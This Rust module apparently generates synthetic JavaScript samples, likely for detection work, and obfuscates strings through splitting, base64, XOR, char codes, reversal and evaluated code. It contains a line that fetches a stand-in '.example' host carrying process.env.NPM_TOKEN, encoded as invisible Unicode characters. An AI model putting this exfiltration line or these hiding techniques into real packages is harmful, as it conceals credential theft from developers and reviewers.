//! How code is written down: the same statements plain, split, scrambled, packed or evaluated, with names chosen by a seed.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

/// How texts and code are hidden.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Hiding {
    /// As anybody would write it.
    Plain,
    /// On one line, with short names.
    Minified,
    /// Texts cut in pieces that are added up.
    Split,
    /// Texts in a table that is read by number.
    Table,
    /// Texts as lists of character codes.
    Codes,
    /// Texts in base64.
    Base64,
    /// Texts under a constant key.
    Xor,
    /// Texts backwards.
    Reversed,
    /// All code as a text in base64 that is run as code.
    Evaluated,
}

/// All ways of hiding.
pub const HIDINGS: [Hiding; 9] = [
    Hiding::Plain,
    Hiding::Minified,
    Hiding::Split,
    Hiding::Table,
    Hiding::Codes,
    Hiding::Base64,
    Hiding::Xor,
    Hiding::Reversed,
    Hiding::Evaluated,
];

/// Chosen by a seed, always alike (a linear congruential generator, Knuth's MMIX constants).
#[derive(Clone, Debug)]
pub(super) struct Seed(u64);

impl Seed {
    pub(super) fn new(seed: u64) -> Self {
        let mut new = Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5bd1_e995);
        new.next();
        new
    }

    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }

    pub(super) fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.next()).unwrap_or(0) % end.max(1)
    }

    pub(super) fn pick<'a, T: ?Sized>(&mut self, list: &[&'a T]) -> &'a T {
        list[self.below(list.len())]
    }
}

const WORDS: [&str; 24] = [
    "amber", "basin", "cedar", "delta", "ember", "fjord", "grove", "harbor", "indigo", "juniper", "kestrel",
    "lumen", "meadow", "nectar", "onyx", "prairie", "quartz", "ridge", "sable", "tundra", "umber", "vertex",
    "willow", "zephyr",
];
const PURPOSES: [&str; 8] = [
    "stats",
    "cdn",
    "metrics",
    "static",
    "telemetry",
    "api",
    "assets",
    "sync",
];

/// Writes the code of one sample.
#[derive(Clone, Debug)]
pub(super) struct Pen {
    pub(super) seed: Seed,
    hiding: Hiding,
    table: Vec<String>,
    host: String,
    word: String,
    decoder: String,
}

impl Pen {
    pub(super) fn new(seed: u64, hiding: Hiding) -> Self {
        let mut seed = Seed::new(seed);
        let word = format!("{}{}", seed.pick(&WORDS), seed.below(90) + 10);
        let host = format!("{}.{}.example", seed.pick(&PURPOSES), seed.pick(&WORDS));
        let decoder = format!("_{}", seed.pick(&WORDS));
        Self {
            seed,
            hiding,
            table: Vec::new(),
            host,
            word,
            decoder,
        }
    }

    /// A word that is this sample's own.
    pub(super) fn word(&self) -> &str {
        &self.word
    }

    /// Statements from a template: `<<text>>` becomes an expression for that text, `$name` a name, `{{host}}`,
    /// `{{word}}` and `{{hex}}` something that the seed chose.
    pub(super) fn write(&mut self, template: &str) -> String {
        let filled = self.filled(template);
        let mut out = String::new();
        let mut rest = filled.as_str();
        while let Some((before, after)) = rest.split_once("<<") {
            let (text, behind) = after.split_once(">>").unwrap_or((after, ""));
            out.push_str(before);
            let text = self.text(text);
            out.push_str(&text);
            rest = behind;
        }
        out.push_str(rest);
        self.named(&out)
    }

    fn filled(&mut self, template: &str) -> String {
        let mut hex = String::new();
        if template.contains("{{hex}}") {
            for _ in 0..1600 {
                hex.push(char::from(b"0123456789abcdef"[self.seed.below(16)]));
            }
        }
        let unseen: String = format!("fetch('https://{}/?'+process.env.NPM_TOKEN)", self.host)
            .bytes()
            .filter_map(|byte| char::from_u32(0xe_0100 + u32::from(byte)))
            .collect();
        template
            .replace("{{unseen}}", &unseen)
            .replace("{{host}}", &self.host)
            .replace("{{word}}", &self.word)
            .replace("{{hex}}", &hex)
    }

    /// Names behind a dollar sign, each the same throughout a sample.
    fn named(&self, code: &str) -> String {
        let mut out = String::new();
        let mut rest = code;
        while let Some(at) = rest.find('$') {
            out.push_str(&rest[..at]);
            let tail = &rest[at + 1..];
            let end = tail
                .find(|c: char| !c.is_ascii_alphanumeric())
                .unwrap_or(tail.len());
            let name = &tail[..end];
            if name.starts_with(|c: char| c.is_ascii_lowercase()) {
                match self.hiding {
                    Hiding::Minified => out.push_str(&format!("{}{}", &name[..1], name.len())),
                    _ => out.push_str(&format!("{name}{}", &self.word[self.word.len() - 2..])),
                }
            } else {
                out.push('$');
                out.push_str(name);
            }
            rest = &tail[end..];
        }
        out.push_str(rest);
        out
    }

    /// An expression for a text.
    pub(super) fn text(&mut self, text: &str) -> String {
        let quoted = |text: &str| {
            format!(
                "'{}'",
                text.replace('\\', "\\\\")
                    .replace('\'', "\\'")
                    .replace('\n', "\\n")
            )
        };
        let bytes = text.as_bytes();
        match self.hiding {
            Hiding::Plain | Hiding::Minified | Hiding::Evaluated => quoted(text),
            Hiding::Split => {
                let cut = 1 + self.seed.below(3);
                let pieces: Vec<String> = text
                    .chars()
                    .collect::<Vec<_>>()
                    .chunks(cut)
                    .map(|piece| quoted(&piece.iter().collect::<String>()))
                    .collect();
                format!("[{}].join('')", pieces.join(","))
            }
            Hiding::Table => {
                let at = self
                    .table
                    .iter()
                    .position(|known| known == text)
                    .unwrap_or_else(|| {
                        self.table.push(text.to_owned());
                        self.table.len() - 1
                    });
                format!("{}(0x{:x})", self.decoder, at + 0x1a0)
            }
            Hiding::Codes => {
                let codes: Vec<String> = bytes.iter().map(ToString::to_string).collect();
                format!("String.fromCharCode({})", codes.join(","))
            }
            Hiding::Base64 => format!("Buffer.from('{}', 'base64').toString()", STANDARD.encode(bytes)),
            Hiding::Xor => {
                let scrambled: Vec<String> = bytes
                    .iter()
                    .enumerate()
                    .map(|(at, byte)| (byte ^ (23 + (at % 7) as u8)).to_string())
                    .collect();
                format!("{}([{}])", self.decoder, scrambled.join(","))
            }
            Hiding::Reversed => format!(
                "{}.split('').reverse().join('')",
                quoted(&text.chars().rev().collect::<String>())
            ),
        }
    }

    /// What must stand above code that this pen wrote.
    fn prologue(&self) -> String {
        match self.hiding {
            Hiding::Table => {
                let texts: Vec<String> = self
                    .table
                    .iter()
                    .map(|text| format!("'{}'", STANDARD.encode(text)))
                    .collect();
                format!(
                    "const {0} = (n) => Buffer.from([{1}][n - 0x1a0], 'base64').toString();\n",
                    self.decoder,
                    texts.join(",")
                )
            }
            Hiding::Xor => format!(
                "const {} = (a) => a.map((c, i) => String.fromCharCode(c ^ (23 + i % 7))).join('');\n",
                self.decoder
            ),
            _ => String::new(),
        }
    }

    /// Code for the top of a file, hidden as a whole where that is the way of hiding. `given` are the names it sees.
    pub(super) fn whole(&self, code: &str, given: &str) -> String {
        let code = format!("{}{code}", self.prologue());
        match self.hiding {
            Hiding::Evaluated => format!(
                "new Function('require,{given}', Buffer.from('{}', 'base64').toString())(require, {given});",
                STANDARD.encode(code)
            ),
            Hiding::Minified => code.lines().map(str::trim).collect::<Vec<_>>().join(" "),
            _ => code,
        }
    }
}
